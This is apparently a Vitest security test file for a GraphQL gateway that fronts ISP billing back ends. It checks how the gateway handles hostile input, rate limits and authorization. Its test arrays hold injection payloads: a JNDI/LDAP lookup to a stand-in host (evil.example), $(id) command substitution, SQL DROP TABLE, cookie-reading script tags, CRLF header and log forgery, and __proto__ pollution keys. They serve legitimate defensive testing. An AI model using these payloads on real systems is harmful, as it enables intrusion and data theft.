import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CreateTicketDocument } from '../../src/client/generated/operations.js';
import { wispHubCases as cases } from '../../src/emulator/wisphub/index.js';
import { wisproCases } from '../../src/emulator/wispro/index.js';
import { scopes } from '../../src/model/caller.js';
import { encodeId } from '../../src/model/id.js';
import { callsDuring, codesOf, dataOf, startTestGateway, type TestGateway } from './gateway.js';
import { openSocket } from './raw-socket.js';
import { jsonHeaders, refusalOf, request } from './request.js';

const idOf = (row: { readonly id_servicio: number }): string => encodeId('Client', 'WISPHUB', row.id_servicio);
const typical = idOf(cases.typical);
const v2 = { WISPHUB_DIALECT: 'v2', WISPHUB_API_KEY: 'wisphub-planted-api-key' };

/** Texts that break what is put together carelessly. */
const nasty: readonly string[] = [
  'Dice: "no tengo", y \'tampoco\' \\ ni {esto}',
  '"}, "zone_id": 1, "x": {"',
  '--boundary\r\nContent-Disposition: form-data; name="zone_id"\r\n\r\n1\r\n--boundary--',
  'asunto=Otro&zone_id=1;%0d%0aX-Injected: 1#fragment',
  '\u0024{jndi:ldap://evil.example/a} {{7*7}} $(id) `id` %s %n',
  "'; DROP TABLE tickets; --",
  '<script>alert(1)</script> \u202eolleh \u2028 \u2029 fin',
  '\u001b[31mrojo\u001b[0m y \ud83d\ude00 ñandú',
];

describe.each([
  ['v1', 'v1', {}],
  ['v2', 'v2', v2],
] as const)('(59) what a person says, sent to a back end of dialect %s', (_, dialect, environment) => {
  let gateway: TestGateway;

  beforeAll(async () => {
    gateway = await startTestGateway({ wispHub: { dialect, maxTicketsPerZone: 1_000 }, environment });
  });

  afterAll(() => gateway.close());

  const create = (description: string, idempotencyKey: string) => {
    const input = { clientId: typical, subject: 'Internet Lento', description, idempotencyKey, force: true };
    return gateway.run(CreateTicketDocument, { input });
  };

  it('arrives as it was said, in the one field where it belongs', async () => {
    for (const [index, text] of nasty.entries()) {
      const { createTicket } = dataOf(await create(text, `nasty-${index}`));
      expect(createTicket.__typename).toBe('CreateTicketSuccess');
      expect(gateway.wispHub.effects.tickets.at(-1)).toMatchObject({
        id_servicio: cases.typical.id_servicio,
        zona: 7,
        descripcion: expect.stringMatching(/\n\[ref:[0-9a-f]{8}\]$/),
      });
      const { descripcion = '' } = gateway.wispHub.effects.tickets.at(-1) ?? {};
      expect(descripcion.slice(0, descripcion.lastIndexOf('\n'))).toBe(text);
    }
    expect(gateway.wispHub.effects.tickets).toHaveLength(nasty.length);
  });

  it('is refused without a call when it is too long: by the field, or by the body', async () => {
    const long = await callsDuring(gateway, () => create('x'.repeat(4_001), 'long'));
    expect(long.calls).toEqual([]);
    expect(dataOf(long.value).createTicket).toMatchObject({ __typename: 'InvalidInput' });
    const huge = await callsDuring(gateway, () => create('x'.repeat(1_000_000), 'huge'));
    expect(huge.calls).toEqual([]);
    expect([huge.value.status, codesOf(huge.value)]).toEqual([413, ['PAYLOAD_TOO_LARGE']]);
  });
});

describe('the gateway', () => {
  let gateway: TestGateway;

  beforeAll(async () => {
    gateway = await startTestGateway();
  });

  afterAll(() => gateway.close());

  beforeEach(() => gateway.wispHub.reset());

  const hostile = [
    '\u001b[2J\u001b[31mROJO\u001b[0m',
    '<script>alert(document.cookie)</script>',
    'NUL \u0000 y BEL \u0007',
    'suelto \ud800 y \udfff',
    'a\r\n{"level":50,"msg":"forged"}',
    'x'.repeat(20_000),
  ];

  /** Has the back end call the typical client something else. */
  const rename = (name: string): void =>
    gateway.wispHub.fault({
      route: '/clients/by-service-id/',
      fault: {
        kind: 'rewrite',
        rewrite: (answer) => {
          const body = JSON.parse(String(answer.body)) as { readonly data: object };
          return { ...answer, body: JSON.stringify({ ...body, data: { ...body.data, name, address: name } }) };
        },
      },
    });

  it.each(hostile)('(75) passes on what a back end says as data, and no byte of it raw: %j', async (name) => {
    rename(name);
    const before = gateway.logged().length;
    const body = JSON.stringify({ query: '{ client(by: {serviceId: 1001}) { name address } }' });
    const reply = await request(gateway.url, { headers: jsonHeaders(gateway.token()), body });
    expect(JSON.parse(reply.text)).toEqual({ data: { client: { name, address: name } } });
    expect([...reply.text.trimEnd()].filter((character) => character < ' ')).toEqual([]);
    expect(reply.headers).toMatchObject({ 'x-content-type-options': 'nosniff' });
    const lines = gateway.logged().slice(before).trimEnd().split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { readonly msg: string }).msg)).toEqual(['operation']);
  });

  it('(75) passes it on over WebSocket alike', async () => {
    const start =
      'mutation ($id: ID!) { startPing(input: {clientId: $id}) { ... on StartPingSuccess { pingTask { id } } } }';
    const started = dataOf(await gateway.send<{ startPing: { pingTask: { id: string } } }>(start, { id: typical }))
      .startPing.pingTask;
    for (const name of hostile) rename(name);
    const socket = await openSocket(gateway.url);
    await socket.init(gateway.token());
    const query = 'subscription ($id: ID!) { pingTaskCompleted(id: $id) { client { name } } }';
    socket.send({ id: '1', type: 'subscribe', payload: { query, variables: { id: started.id } } });
    const [event] = await socket.about('1', 2);
    expect(event).toEqual({
      id: '1',
      type: 'next',
      payload: { data: { pingTaskCompleted: { client: { name: hostile[0] } } } },
    });
    await socket.close();
  });

  const update = 'mutation ($input: UpdateClientInput!) { updateClient(input: $input) { __typename } }';

  it.each(['balance', 'saldo', '__proto__', 'constructor', 'status'])(
    '(63) refuses to change %s of a client, and asks no back end',
    async (key) => {
      const inline = `mutation { updateClient(input: {clientId: "${typical}", phone: "3001112233", ${key}: "-100000"}) { __typename } }`;
      // As text: an object of JavaScript has some of these keys for itself.
      const variables = `{"input":{"clientId":"${typical}","phone":"3001112233","${key}":{"polluted":1}}}`;
      const bodies: readonly (readonly [string, string])[] = [
        [JSON.stringify({ query: inline }), 'GRAPHQL_VALIDATION_FAILED'],
        // Of this one the body itself is refused.
        [
          `{"query":${JSON.stringify(update)},"variables":${variables}}`,
          key === '__proto__' ? 'BAD_REQUEST' : 'BAD_USER_INPUT',
        ],
      ];
      for (const [body, code] of bodies) {
        const send = () => request(gateway.url, { headers: jsonHeaders(gateway.token()), body });
        const { value: reply, calls } = await callsDuring(gateway, send);
        expect([reply.status, refusalOf(reply).extensions.code, calls]).toEqual([400, code, []]);
      }
      expect(({} as { readonly polluted?: number }).polluted).toBeUndefined();
      expect(gateway.wispHub.effects.updates).toEqual([]);
    },
  );

  it('(50) refuses who goes through service ids once a minute’s points are spent, and asks no back end then', async () => {
    const narrow = await startTestGateway({ environment: { COST_PER_MINUTE: '200' } });
    const who = { subject: 'collector', scopes: ['clients:read'] as const };
    const look = (id: number) => narrow.send(`{ client(by: {serviceId: ${id}}) { name } }`, {}, who);
    const statuses: number[] = [];
    for (let id = 1; id <= 100; id += 1) statuses.push((await look(id)).status);
    expect(new Set(statuses)).toEqual(new Set([200]));
    const { value, calls } = await callsDuring(narrow, () => look(1001));
    expect([value.status, codesOf(value), calls]).toEqual([429, ['RATE_LIMITED'], []]);
    await narrow.close();
  });

  it.each<[string, string, string]>([
    ['Ticket', encodeId('Ticket', 'WISPHUB', 510), encodeId('Ticket', 'WISPHUB', 999_999)],
    [
      'Contract',
      encodeId('Contract', 'WISPRO', wisproCases.paidAndPending.clientId, wisproCases.paidAndPending.contracts.enabled),
      encodeId('Contract', 'WISPRO', 'x', 'y'),
    ],
    [
      'Invoice',
      encodeId('Invoice', 'WISPRO', wisproCases.paidAndPending.clientId, wisproCases.paidAndPending.invoices.paid),
      encodeId('Invoice', 'WISPRO', 'x', 'y'),
    ],
    ['PingTask', encodeId('PingTask', 'WISPHUB', 'a'), encodeId('PingTask', 'WISPHUB', 'b')],
  ])('(60) says of a %s the same whether there is one or not, to who may see none', async (_, existing, missing) => {
    const who = { scopes: scopes.filter((scope) => /^(clients|personal):/.test(scope)) };
    const ask = async (id: string) => {
      const query = 'query ($id: ID!) { node(id: $id) { id } nodes(ids: [$id]) { id } }';
      const { value, calls } = await callsDuring(gateway, () => gateway.send(query, { id }, who));
      return [value.status, value.data, codesOf(value), calls];
    };
    expect(await ask(existing)).toEqual([200, { node: null, nodes: [null] }, ['FORBIDDEN', 'FORBIDDEN'], []]);
    expect(await ask(missing)).toEqual(await ask(existing));
  });
});
